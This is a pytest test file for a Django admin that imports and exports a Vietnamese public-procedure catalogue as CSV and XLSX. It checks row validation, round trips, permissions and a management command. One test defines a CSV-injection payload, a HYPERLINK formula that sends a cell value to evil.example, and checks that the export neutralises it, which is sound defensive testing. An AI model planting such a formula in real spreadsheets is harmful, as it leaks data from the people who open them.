import io

import openpyxl
import pytest
import tablib
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from django.utils import translation

from procedures import services
from procedures.models import Procedure, ProcedureVersion, RequiredDocument, VersionStatus
from procedures.resources import ProcedureVersionResource, row_error_lines, split_cell
from tests.factories import AgencyFactory, FieldFactory, ProcedureFeeFactory, ProcedureVersionFactory
from tests.procedures.factories_extra import (
    COLUMNS,
    as_csv,
    as_xlsx,
    catalogue_admin,
    good_row,
    reference_data,
    sign_in_to_admin,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english(settings, client):
    """Messages are checked in English, the msgid language; the site's default is Vietnamese."""
    settings.LANGUAGE_CODE = "en"
    client.cookies["portal_language"] = "en"
    with translation.override("en"):
        yield


IMPORT_URL = reverse("admin:procedures_procedureversion_import")
PROCESS_IMPORT_URL = reverse("admin:procedures_procedureversion_process_import")
EXPORT_URL = reverse("admin:procedures_procedureversion_export")
CSV_FORMAT, XLSX_FORMAT = "0", "1"  # positions in ProcedureVersionAdmin.import_formats


def import_rows(rows, *, dry_run=False):
    dataset = tablib.Dataset(headers=COLUMNS)
    for row in rows:
        dataset.append([row[column] for column in COLUMNS])
    return ProcedureVersionResource().import_data(
        dataset, dry_run=dry_run, use_transactions=True, rollback_on_validation_errors=True
    )


def run_command(tmp_path, name, content, *args):
    path = tmp_path / name
    path.write_bytes(content)
    out, err = io.StringIO(), io.StringIO()
    call_command("import_catalogue", str(path), *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def content_of(version):
    """Everything an import carries, to compare an entry before export and after re-import."""
    return {
        "national_code": version.procedure.national_code,
        **{
            name: getattr(version, name)
            for name in [
                "name",
                "field_id",
                "levels",
                "service_level",
                "partial_reason",
                "partial_reason_note",
                "processing_days",
                "processing_time_note",
                "fee_payment_stage",
                "applicant_requirements",
                "legal_basis",
                "result_name",
                "result_type",
                "return_at_desk",
                "return_by_post",
                "return_electronic",
            ]
        },
        "agencies": sorted(a.code for a in version.agencies.all()),
        "fees": [
            (f.position, f.kind, f.description, f.amount, f.online_discount_percent)
            for f in version.fees.all()
        ],
        "documents": [
            (d.position, d.name, d.copy_kind, d.count, d.is_required, d.reusable, d.note)
            for d in version.documents.all()
        ],
    }


def upload(name, content):
    content_type = "text/csv" if name.endswith(".csv") else "application/octet-stream"
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- the resource -----------------------------------------------------------------------------------------
def test_a_good_file_creates_drafts_with_fees_documents_and_agencies():
    ref = reference_data()
    published = ProcedureVersionFactory(
        published=True, procedure__national_code="2.000123", field=ref["field"]
    )

    result = import_rows(
        [good_row(), good_row(national_code="2.000123", service_level="partial", partial_reason="originals")]
    )

    assert row_error_lines(result) == []
    new = ProcedureVersion.objects.get(procedure__national_code="1.001234")
    assert (new.status, new.version_number, new.levels) == (VersionStatus.DRAFT, 1, "province,commune")
    assert [a.code for a in new.agencies.order_by("code")] == ["000.00.15.H29", "000.01.20.H29"]
    assert [(f.kind, f.description, f.amount, f.online_discount_percent) for f in new.fees.all()] == [
        ("charge", "Lệ phí cấp", 50_000, 50),
        ("fee", "Phí sao y", 8_000, 0),
    ]
    assert [(d.name, d.copy_kind, d.count, d.is_required, d.reusable) for d in new.documents.all()] == [
        ("Tờ khai", "original", 1, True, True),
        ("Giấy chứng sinh", "copy", 2, False, False),
    ]
    second = published.procedure.versions.get(version_number=2)
    assert (second.status, second.partial_reason) == (VersionStatus.DRAFT, "originals")
    assert ProcedureVersion.objects.get(pk=published.pk).status == VersionStatus.PUBLISHED


def test_a_row_for_a_published_procedure_becomes_its_next_version_with_what_changed():
    ref = reference_data()
    admin = catalogue_admin()
    first = ProcedureVersionFactory(published=True, procedure__national_code="1.001234", field=ref["field"])
    row = good_row(processing_days="2")
    dataset = tablib.Dataset(headers=[*COLUMNS, "change_note"])
    dataset.append([*(row[column] for column in COLUMNS), "Rút ngắn thời hạn giải quyết còn 02 ngày"])
    dataset.append([*(good_row(national_code="1.000002")[column] for column in COLUMNS), "x" * 301])

    refused = ProcedureVersionResource().import_data(
        dataset, use_transactions=True, rollback_on_validation_errors=True, user=admin
    )
    assert [line[:21] for line in row_error_lines(refused)] == ["Row 2 (change_note): "]
    del dataset[1]
    result = ProcedureVersionResource().import_data(
        dataset, use_transactions=True, rollback_on_validation_errors=True, user=admin
    )

    assert row_error_lines(result) == []
    second = first.procedure.versions.get(version_number=2)
    assert (second.status, second.processing_days, second.created_by) == (VersionStatus.DRAFT, 2, admin)
    assert second.change_note == "Rút ngắn thời hạn giải quyết còn 02 ngày"
    services.submit_for_review(version=second, by=admin)
    services.publish(version=second, by=catalogue_admin())  # four eyes: not the one who submitted
    assert sorted(first.procedure.versions.values_list("version_number", "status", "change_note")) == [
        (1, VersionStatus.ARCHIVED, ""),
        (2, VersionStatus.PUBLISHED, "Rút ngắn thời hạn giải quyết còn 02 ngày"),
    ]
    exported = ProcedureVersionResource().export(ProcedureVersion.objects.published())
    assert exported.dict[0]["change_note"] == "Rút ngắn thời hạn giải quyết còn 02 ngày"


@pytest.mark.parametrize(
    ("overrides", "column", "reason"),
    [
        ({"field": "dat-dai"}, "field", "No field has the code “dat-dai”."),
        ({"agencies": "000.00.15.H29;000.00.99.H99"}, "agencies", "No agency has the code “000.00.99.H99”."),
        ({"agencies": ""}, "agencies", "Name at least one agency code"),
        ({"national_code": "1234"}, "national_code", "Use the national code format, e.g. 1.001234."),
        ({"national_code": ""}, "national_code", "The national code is missing."),
        ({"levels": "province,huyen"}, "levels", "Choose at least one level"),
        ({"levels": ""}, "levels", "Choose at least one level"),
        ({"service_level": "partial"}, "partial_reason", "must say why it cannot be full-process"),
        ({"service_level": "level4"}, "service_level", "is not a valid choice"),
        (
            {"return_by_post": "0", "return_electronic": "0"},
            "return_electronic",
            "returns the result electronically or by public post",
        ),
        ({"return_at_desk": "maybe"}, "return_at_desk", "Write 1 for yes or 0 for no"),
        ({"processing_days": "ba"}, "processing_days", "must be a whole number, 0 or more"),
        ({"processing_days": "-2"}, "processing_days", "must be a whole number, 0 or more"),
        ({"processing_days": "2.5"}, "processing_days", "must be a whole number, 0 or more"),
        ({"processing_days": "400"}, "processing_days", "less than or equal to 365"),
        ({"fees": "charge|Lệ phí"}, "fees", "Fee 1: write kind|description|amount"),
        ({"fees": "tax|Thuế|100"}, "fees", "Fee 1: the kind must be one of fee, charge"),
        ({"fees": "charge|Lệ phí|-5"}, "fees", "Fee 1: The amount must be a whole number, 0 or more"),
        ({"fees": "charge|Lệ phí|năm mươi"}, "fees", "Fee 1: The amount must be a whole number"),
        (
            {"fees": "charge|A|10; fee|B|10|150"},
            "fees",
            "Fee 2: Ensure this value is less than or equal to 100.",
        ),
        ({"documents": ""}, "documents", "List at least one document"),
        ({"documents": "Tờ khai"}, "documents", "Document 1: write name|copy kind|count|required|reusable"),
        ({"documents": "Tờ khai|photo"}, "documents", "Document 1: the copy kind must be one of original"),
        (
            {"documents": "Tờ khai|copy|0"},
            "documents",
            "Document 1: Ensure this value is greater than or equal to 1.",
        ),
        ({"documents": "Tờ khai|copy|1|maybe"}, "documents", "Document 1: write “required” or “optional”"),
    ],
)
def test_a_bad_row_is_reported_with_its_number_and_reason_and_nothing_is_imported(overrides, column, reason):
    reference_data()

    result = import_rows(
        [
            good_row(),
            good_row(**{"national_code": "1.000002", **overrides}),
            good_row(national_code="1.000003"),
        ]
    )

    assert [row.number for row in result.invalid_rows] == [2]
    messages = result.invalid_rows[0].error_dict[column]
    assert any(reason in message for message in messages), messages
    assert any(line.startswith(f"Row 2 ({column}): ") and reason in line for line in row_error_lines(result))
    assert not Procedure.objects.exists()
    assert not ProcedureVersion.objects.exists()


def test_every_problem_of_a_row_is_reported_together():
    reference_data()
    result = import_rows([good_row(field="x", agencies="000.00.99.H99", fees="charge|A")])
    assert set(result.invalid_rows[0].error_dict) == {"field", "agencies", "fees"}


def test_a_procedure_with_an_open_draft_refuses_an_imported_version():
    ref = reference_data()
    draft = ProcedureVersionFactory(procedure__national_code="1.001234", field=ref["field"])

    result = import_rows([good_row()])

    assert "already has version 1 in draft or in review" in row_error_lines(result)[0]
    assert draft.procedure.versions.count() == 1


def test_a_national_code_twice_in_one_file_is_refused():
    reference_data()
    result = import_rows([good_row(), good_row(name="Bản khác")])
    assert row_error_lines(result) == [
        "Row 2 (national_code): Row 1 of this file already has this national code: one row per procedure."
    ]
    assert not ProcedureVersion.objects.exists()


def test_a_file_without_a_needed_column_is_refused():
    reference_data()
    dataset = tablib.Dataset(headers=["national_code", "name"])
    dataset.append(["1.001234", "Đăng ký khai sinh"])
    result = ProcedureVersionResource().import_data(dataset, rollback_on_validation_errors=True)
    assert result.has_errors()
    assert "no column named field, agencies, levels" in row_error_lines(result)[0]
    assert "fees" not in row_error_lines(result)[0]  # optional, like the notes
    assert not ProcedureVersion.objects.exists()


def test_optional_columns_may_be_left_out():
    reference_data()
    optional = {"partial_reason", "partial_reason_note", "processing_time_note", "fee_payment_stage", "fees"}
    columns = [column for column in COLUMNS if column not in optional]
    dataset = tablib.Dataset(headers=columns)
    dataset.append([good_row()[column] for column in columns])

    result = ProcedureVersionResource().import_data(dataset, rollback_on_validation_errors=True)

    assert row_error_lines(result) == []
    version = ProcedureVersion.objects.get()
    assert (version.fee_payment_stage, version.fees.count()) == ("at_filing", 0)


def test_a_dry_run_imports_nothing():
    reference_data()
    result = import_rows([good_row()], dry_run=True)
    assert not result.has_validation_errors() and result.totals["new"] == 1
    assert not ProcedureVersion.objects.exists()


def test_cells_with_separators_are_escaped_and_read_back():
    assert split_cell(r"a\|b|c\;d; e\\f|g") == [["a|b", "c;d"], ["e\\f", "g"]]
    assert split_cell(" ; ") == []


# --- export and round trip --------------------------------------------------------------------------------
def make_published_catalogue():
    field = FieldFactory(code="dat-dai", name="Đất đai")
    agencies = [AgencyFactory(code="000.00.15.H29"), AgencyFactory(code="000.01.20.H29")]
    full = ProcedureVersionFactory(
        published=True,
        field=field,
        agencies=agencies,
        levels="province,commune",
        processing_time_note="Không quá 15 ngày; trừ ngày lễ",
        applicant_requirements="Người sử dụng đất\nhợp pháp",
        legal_basis="Luật Đất đai 2024;\nNghị định 102/2024/NĐ-CP",
        fee_payment_stage="before_return",
    )
    ProcedureFeeFactory(version=full, kind="fee", description="Phí thẩm định | hồ sơ; đất", amount=1_500_000)
    ProcedureFeeFactory(version=full, kind="charge", description="Lệ phí cấp", amount=50_000, position=1)
    RequiredDocument.objects.filter(version=full, position=1).update(
        name="Bản sao CCCD\\hộ chiếu", reusable=True, is_required=False, count=2, note="nếu có; bản chính"
    )
    partial = ProcedureVersionFactory(
        published=True,
        partial=True,
        field=field,
        agencies=agencies[:1],
        partial_reason_note="Phải kiểm tra thực địa",
        return_electronic=False,
        documents=1,
    )
    return [full, partial]


def test_export_then_import_into_an_empty_catalogue_gives_the_same_content():
    versions = make_published_catalogue()
    before = sorted((content_of(v) for v in versions), key=lambda c: c["national_code"])
    exported = ProcedureVersionResource().export(ProcedureVersion.objects.published())
    assert exported.headers[: len(COLUMNS)] != []  # the stable column names
    assert set(COLUMNS) <= set(exported.headers)

    for fmt in ("csv", "xlsx"):
        data = exported.export(fmt)
        ProcedureVersion.objects.all().delete()
        Procedure.objects.all().delete()
        dataset = tablib.import_set(data, format=fmt)
        result = ProcedureVersionResource().import_data(dataset, rollback_on_validation_errors=True)

        assert row_error_lines(result) == [], fmt
        after = sorted(
            (content_of(v) for v in ProcedureVersion.objects.all()), key=lambda c: c["national_code"]
        )
        assert after == before, fmt
        assert set(ProcedureVersion.objects.values_list("status", flat=True)) == {VersionStatus.DRAFT}


def test_the_admin_exports_the_filtered_list_as_csv_for_excel(client):
    versions = make_published_catalogue()
    ProcedureVersionFactory(field=versions[0].field, name="Bản nháp chưa công bố")
    sign_in_to_admin(client, catalogue_admin())

    page = client.get(EXPORT_URL, {"status__exact": "published"})
    assert page.status_code == 200
    fields = {
        name: "on" for name in page.context["form"].fields if name.startswith("procedureversionresource_")
    }
    response = client.post(f"{EXPORT_URL}?status__exact=published", {"format": CSV_FORMAT, **fields})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for Vietnamese
    text = content.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("national_code,name,field,agencies,levels,service_level")
    assert versions[0].name in text and "Bản nháp chưa công bố" not in text


HOSTILE = '=HYPERLINK("https://evil.example/?d="&B5,"Xem")'


def admin_export(client, file_format):
    page = client.get(EXPORT_URL)
    fields = {
        name: "on" for name in page.context["form"].fields if name.startswith("procedureversionresource_")
    }
    response = client.post(EXPORT_URL, {"format": file_format, **fields})
    assert response.status_code == 200
    return response.content


def test_the_admin_export_writes_formula_like_text_as_text_and_reads_it_back(client):
    """OWASP CSV injection: CSV cells get an apostrophe, XLSX cells are strings; the import undoes it."""
    versions = make_published_catalogue()
    ProcedureVersion.objects.filter(pk=versions[0].pk).update(name=HOSTILE, legal_basis="- Luật Đất đai 2024")
    before = sorted((content_of(v) for v in ProcedureVersion.objects.all()), key=lambda c: c["national_code"])
    sign_in_to_admin(client, catalogue_admin())

    text = admin_export(client, CSV_FORMAT).decode("utf-8-sig")
    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(client, XLSX_FORMAT))).active

    assert "'" + HOSTILE.replace('"', '""') in text and ",'- Luật Đất đai 2024," in text
    [name] = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE]
    assert name.data_type == "s"
    ProcedureVersion.objects.all().delete()
    Procedure.objects.all().delete()
    result = ProcedureVersionResource().import_data(
        tablib.import_set(text, format="csv"), rollback_on_validation_errors=True
    )
    assert row_error_lines(result) == []
    after = sorted((content_of(v) for v in ProcedureVersion.objects.all()), key=lambda c: c["national_code"])
    assert after == before


# --- the admin import -------------------------------------------------------------------------------------
def test_the_admin_imports_a_good_csv_after_a_preview(client):
    reference_data()
    sign_in_to_admin(client, catalogue_admin())

    preview = client.post(
        IMPORT_URL, {"format": CSV_FORMAT, "import_file": upload("catalogue.csv", as_csv([good_row()]))}
    )
    assert preview.status_code == 200
    assert not ProcedureVersion.objects.exists()  # the preview is a dry run
    confirm = preview.context["confirm_form"]
    assert confirm is not None
    assert "Giấy chứng sinh|copy|2|optional|not_reusable" in preview.content.decode()

    response = client.post(PROCESS_IMPORT_URL, confirm.initial, follow=True)

    version = ProcedureVersion.objects.get()
    assert (version.procedure.national_code, version.status) == ("1.001234", VersionStatus.DRAFT)
    assert version.fees.count() == 2 and version.documents.count() == 2 and version.agencies.count() == 2
    assert any("1 draft version was imported" in str(m) for m in get_messages(response.wsgi_request))


def test_the_admin_import_shows_the_bad_row_and_imports_nothing(client):
    reference_data()
    sign_in_to_admin(client, catalogue_admin())
    rows = [
        good_row(),
        good_row(national_code="1.000002", field="khong-co"),
        good_row(national_code="1.000003"),
    ]

    response = client.post(
        IMPORT_URL, {"format": CSV_FORMAT, "import_file": upload("catalogue.csv", as_csv(rows))}
    )

    assert response.status_code == 200
    result = response.context["result"]
    assert [row.number for row in result.invalid_rows] == [2]
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    messages = [str(m) for m in get_messages(response.wsgi_request)]
    assert "Row 2 (field): No field has the code “khong-co”." in messages
    assert "Row 2 (field): No field has the code “khong-co”." in response.content.decode()
    assert not ProcedureVersion.objects.exists()


def test_the_admin_confirm_step_rolls_everything_back_when_a_row_turned_bad(client):
    ref = reference_data()
    sign_in_to_admin(client, catalogue_admin())
    rows = [good_row(), good_row(national_code="1.000002")]
    preview = client.post(IMPORT_URL, {"format": CSV_FORMAT, "import_file": upload("c.csv", as_csv(rows))})
    ProcedureVersionFactory(
        procedure__national_code="1.000002", field=ref["field"]
    )  # a draft appears meanwhile

    response = client.post(PROCESS_IMPORT_URL, preview.context["confirm_form"].initial, follow=True)

    messages = [str(m) for m in get_messages(response.wsgi_request)]
    assert "Nothing was imported:" in messages
    assert any(m.startswith("Row 2") and "already has version 1" in m for m in messages)
    assert not Procedure.objects.filter(national_code="1.001234").exists()


def test_the_admin_imports_xlsx(client):
    reference_data()
    sign_in_to_admin(client, catalogue_admin())
    content = as_xlsx([good_row(processing_days=3, return_at_desk=1, return_by_post=True)])

    preview = client.post(
        IMPORT_URL, {"format": XLSX_FORMAT, "import_file": upload("catalogue.xlsx", content)}
    )
    assert not preview.context["result"].has_validation_errors()
    client.post(PROCESS_IMPORT_URL, preview.context["confirm_form"].initial)

    version = ProcedureVersion.objects.get()
    assert (version.processing_days, version.return_at_desk) == (3, True)


def test_a_user_who_cannot_edit_the_catalogue_cannot_import(client):
    sign_in_to_admin(client, catalogue_admin())
    viewer = catalogue_admin(publish=False)
    viewer.user_permissions.remove(*viewer.user_permissions.exclude(codename="view_procedureversion"))
    sign_in_to_admin(client, viewer)
    assert client.get(IMPORT_URL).status_code == 403


# --- the management command -------------------------------------------------------------------------------
def test_the_command_imports_a_good_csv(tmp_path):
    reference_data()
    out, _err = run_command(
        tmp_path, "catalogue.csv", as_csv([good_row(), good_row(national_code="1.000002")])
    )
    assert "Imported 2 draft versions" in out
    assert ProcedureVersion.objects.filter(status=VersionStatus.DRAFT).count() == 2


def test_the_command_imports_xlsx_with_numbers_as_numbers(tmp_path):
    reference_data()
    content = as_xlsx([good_row(processing_days=7, return_electronic=0, fees="charge|Lệ phí|50000|0")])
    run_command(tmp_path, "catalogue.xlsx", content)
    version = ProcedureVersion.objects.get()
    assert (version.processing_days, version.return_electronic) == (7, False)
    assert version.fees.get().amount == 50_000


def test_the_command_reports_the_bad_row_and_imports_nothing(tmp_path):
    reference_data()
    rows = [
        good_row(),
        good_row(national_code="1.000002", agencies="000.00.99.H99"),
        good_row(national_code="1.3"),
    ]
    path = tmp_path / "catalogue.csv"
    path.write_bytes(as_csv(rows))
    err = io.StringIO()

    with pytest.raises(CommandError, match=r"2 of 3 rows have errors .* nothing was imported"):
        call_command("import_catalogue", str(path), stdout=io.StringIO(), stderr=err)

    assert "Row 2 (agencies): No agency has the code “000.00.99.H99”." in err.getvalue()
    assert "Row 3 (national_code): Use the national code format, e.g. 1.001234." in err.getvalue()
    assert not ProcedureVersion.objects.exists()


def test_the_command_dry_run_checks_without_importing(tmp_path):
    reference_data()
    out, _err = run_command(tmp_path, "catalogue.csv", as_csv([good_row()]), "--dry-run")
    assert "all 1 rows are valid" in out
    assert not ProcedureVersion.objects.exists()


def test_the_command_refuses_other_file_types(tmp_path):
    with pytest.raises(CommandError, match=r"use a \.csv or \.xlsx file"):
        run_command(tmp_path, "catalogue.json", b"[]")


def test_the_command_reads_a_spreadsheet_saved_with_a_float_national_code(tmp_path):
    reference_data()
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(COLUMNS)
    row = good_row(national_code=1.00123)  # Excel turned "1.001230" into a number
    sheet.append([row[column] for column in COLUMNS])
    buffer = io.BytesIO()
    book.save(buffer)
    run_command(tmp_path, "catalogue.xlsx", buffer.getvalue())
    assert ProcedureVersion.objects.get().procedure.national_code == "1.001230"
